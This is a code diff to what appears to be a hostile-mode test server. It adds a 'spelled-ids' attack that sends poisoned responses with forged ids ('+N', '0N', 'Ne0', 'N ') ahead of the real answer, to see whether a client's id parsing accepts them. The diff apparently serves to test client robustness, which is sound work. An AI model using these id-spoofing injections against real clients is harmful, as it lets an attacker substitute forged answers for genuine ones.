@@ -13,6 +13,8 @@ hostile mode still answers the real request, with its exact id, with the benign 
   string-id          poisoned answer with id "N" (a string), then the benign answer with id N
   padded-string-id   poisoned answer with id " N", then the benign one
   hex-id             poisoned answer with id "0xN" (the TypeScript SDK's Number() takes it)
+  spelled-ids        poisoned answers with ids "+N", "0N", "Ne0" and "N " (Number() takes them
+                     all, Python's int() all but "Ne0"), then the benign one
   float-id           poisoned answer with id N.0, then the benign one
   negative-id        poisoned answer with id -N, then the benign one
   early-id           poisoned answers to ids N+1 … N+4 (guesses of the next ids, not yet
@@ -37,6 +39,7 @@ ATTACKS = [
     "string-id",
     "padded-string-id",
     "hex-id",
+    "spelled-ids",
     "float-id",
     "negative-id",
     "early-id",
@@ -187,6 +190,8 @@ def answer(msg, attack, target):
         "string-id": lambda: [response(str(rid), poison), benign],
         "padded-string-id": lambda: [response(f" {rid}", poison), benign],
         "hex-id": lambda: [response(hex(rid), poison), benign],
+        "spelled-ids": lambda: [response(s, poison) for s in (f"+{rid}", f"0{rid}", f"{rid}e0", f"{rid} ")]
+        + [benign],
         "float-id": lambda: [response(float(rid), poison), benign],
         "negative-id": lambda: [response(neg, poison), benign],
         "early-id": lambda: [response(rid + k, poison) for k in range(1, 5)] + [benign],
